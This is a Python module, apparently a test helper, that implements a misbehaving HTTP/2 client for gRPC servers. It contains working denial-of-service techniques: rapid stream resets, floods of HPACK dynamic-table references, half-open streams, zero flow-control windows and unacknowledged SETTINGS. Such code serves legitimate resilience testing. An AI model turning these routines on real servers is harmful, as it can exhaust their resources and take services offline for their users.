"""An HTTP/2 client (RFC 9113) that can misbehave, for example send headers and no message.

It implements only what the attacks need, and encodes headers as plain HPACK literals.
"""

import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS = 0, 1, 3, 4
_END_STREAM, _ACK, _END_HEADERS = 1, 1, 4
_FRAME_HEADER_BYTES = 9
_INITIAL_WINDOW_SIZE = 4
_CANCEL = 8
_TIMEOUT_S = 60.0  # A busy machine is slow.
_CALLS_PER_CONNECTION = 500


class Connection:
    """An HTTP/2 connection.

    It reads what the server sends only in `is_answered`, `wait_until_read` and `wait_until_closed`.
    """

    def __init__(
        self,
        address: str,
        *,
        window_bytes: int = 65_535,
        source: str = "",
        acknowledges: bool = True,
        tls: ssl.SSLContext | None = None,
    ) -> None:
        """Connects. With `window_bytes` 0, the server may send headers but no message.

        `source` is the address to connect from. Without `acknowledges`, the server's SETTINGS are
        never acknowledged.
        """
        host, _, port = address.rpartition(":")
        self._socket: socket.socket = socket.create_connection(
            (host, int(port)), _TIMEOUT_S, (source, 0)
        )
        self._next_stream = 1
        self._has_inserted = False
        try:
            if tls is not None:
                self._socket = tls.wrap_socket(self._socket, server_hostname=host)
            self._begin(window_bytes, acknowledges=acknowledges)
        except OSError:
            self._socket.close()
            raise

    def _begin(self, window_bytes: int, *, acknowledges: bool) -> None:
        settings = struct.pack(">HI", _INITIAL_WINDOW_SIZE, window_bytes)
        self._socket.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, settings))
        if acknowledges:
            # The first frame of a server has its SETTINGS.
            head = self._read(_FRAME_HEADER_BYTES)
            self._read(int.from_bytes(head[:3], "big"))
            self._socket.sendall(_frame(_SETTINGS, _ACK, 0, b""))

    def open(self, method: str, token: str = "") -> int:
        """Sends the headers of a call; returns the id of its HTTP/2 stream."""
        return self.open_many(method, 1, token)[0]

    def open_many(self, method: str, count: int, token: str = "") -> list[int]:
        """Sends the headers of `count` calls together; returns the ids of their streams."""
        block = _header_block(method, token)
        streams = [self._new_stream() for _ in range(count)]
        frames = [_frame(_HEADERS, _END_HEADERS, stream, block) for stream in streams]
        self._socket.sendall(b"".join(frames))
        return streams

    def open_and_reset(self, method: str, count: int, token: str = "") -> None:
        """Sends the headers of `count` calls, each followed by a reset of its stream."""
        block = _header_block(method, token)
        frames = []
        for _ in range(count):
            stream = self._new_stream()
            frames.append(_frame(_HEADERS, _END_HEADERS, stream, block))
            frames.append(_frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL)))
        self._socket.sendall(b"".join(frames))

    def open_with_references(self, method: str, references: int) -> int:
        """Sends the headers of a call, one of them `references` times.

        After the first time, each repetition is a reference of one byte to HPACK's dynamic table.
        Returns the count of bytes that were sent.
        """
        block = _header_block(method, "")
        if not self._has_inserted:
            block += b"\x40" + _literal("a") + _literal("b")
            self._has_inserted = True
        block += b"\xbe" * references
        frame = _frame(_HEADERS, _END_HEADERS, self._new_stream(), block)
        self._socket.sendall(frame)
        return len(frame)

    def _new_stream(self) -> int:
        stream = self._next_stream
        self._next_stream += 2
        return stream

    def call(self, method: str, message: bytes, token: str = "") -> None:
        """Sends a whole unary call, without reading its reply."""
        stream = self.open(method, token)
        body = struct.pack(">BI", 0, len(message)) + message
        self._socket.sendall(_frame(_DATA, _END_STREAM, stream, body))

    def send(self, stream: int, data: bytes) -> None:
        """Sends some bytes of a call's body in one DATA frame."""
        self._socket.sendall(_frame(_DATA, 0, stream, data))

    def is_answered(self, stream: int) -> bool:
        """Reads until the stream has a message or ends. Returns True if it has a message."""
        while head := self._read(_FRAME_HEADER_BYTES):
            kind, flags = head[3], head[4]
            self._read(int.from_bytes(head[:3], "big"))
            if int.from_bytes(head[5:], "big") == stream and (kind == _DATA or flags & _END_STREAM):
                return kind == _DATA
        return False

    def wait_until_read(self) -> None:
        """Waits until the server has read all frames sent so far, or has closed the connection.

        Sends an empty SETTINGS frame and waits for its acknowledgement, because the server reads
        frames in order. Frames that arrive before the acknowledgement are read and dropped.
        """
        self._socket.sendall(_frame(_SETTINGS, 0, 0, b""))
        # The server also acknowledges the SETTINGS frame that began the connection.
        missing = 2
        with suppress(ConnectionResetError):
            while missing and (head := self._read(_FRAME_HEADER_BYTES)):
                self._read(int.from_bytes(head[:3], "big"))
                missing -= head[3] == _SETTINGS and bool(head[4] & _ACK)

    def wait_until_closed(self, timeout_s: float) -> bool:
        """Reads until the server closes the connection; returns False after `timeout_s` seconds."""
        self._socket.settimeout(timeout_s)
        try:
            while self._socket.recv(65_536):
                pass
        except TimeoutError:
            return False
        except OSError:  # The server has reset the connection.
            pass
        return True

    def _read(self, size: int) -> bytes:
        data = b""
        while len(data) < size and (part := self._socket.recv(size - len(data))):
            data += part
        return data

    def close(self) -> None:
        self._socket.close()


class ReferenceSender:
    """Each call of this object sends one call with thousands of references to one header.

    The calls are sent over one connection at `bytes_per_s`. When the server has closed it,
    `connect` opens the next one.
    """

    def __init__(
        self,
        connect: Callable[[], Connection],
        method: str,
        references: int = 12_000,
        bytes_per_s: float = 1.2e6,
    ) -> None:
        self.connections = 0
        self._connect = connect
        self._method = method
        self._references = references
        self._bytes_per_s = bytes_per_s
        self._connection: Connection | None = None

    def __call__(self) -> None:
        if self._connection is None:
            self._connection = self._connect()
            self.connections += 1
        try:
            sent = self._connection.open_with_references(self._method, self._references)
        except OSError:
            self.close()
            raise
        time.sleep(sent / self._bytes_per_s)

    def close(self) -> None:
        if self._connection is not None:
            self._connection.close()
            self._connection = None


@contextmanager
def half_open(address: str, method: str, count: int, token: str = "") -> Iterator[list[Connection]]:
    """Opens `count` calls that send their headers and no message.

    The server has read all headers when the block begins.
    """
    with ExitStack() as closing:
        connections = []
        for start in range(0, count, _CALLS_PER_CONNECTION):
            connections.append(Connection(address))
            closing.callback(connections[-1].close)
            connections[-1].open_many(method, min(_CALLS_PER_CONNECTION, count - start), token)
        for connection in connections:
            connection.wait_until_read()
        yield connections


def _header_block(method: str, token: str) -> bytes:
    """Returns the encoded headers of a call, each as a literal without indexing."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    return b"".join(b"\0" + _literal(name) + _literal(value) for name, value in headers)


def _literal(text: str) -> bytes:
    return _length(len(text)) + text.encode("ascii")


def _length(number: int) -> bytes:
    """Returns an HPACK integer with a prefix of seven bits."""
    if number < 127:
        return bytes([number])
    number -= 127
    encoded = bytearray([127])
    while number >= 128:
        encoded.append(number % 128 + 128)
        number //= 128
    encoded.append(number)
    return bytes(encoded)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    length = struct.pack(">I", len(payload))[1:]
    return length + struct.pack(">BBI", kind, flags, stream) + payload
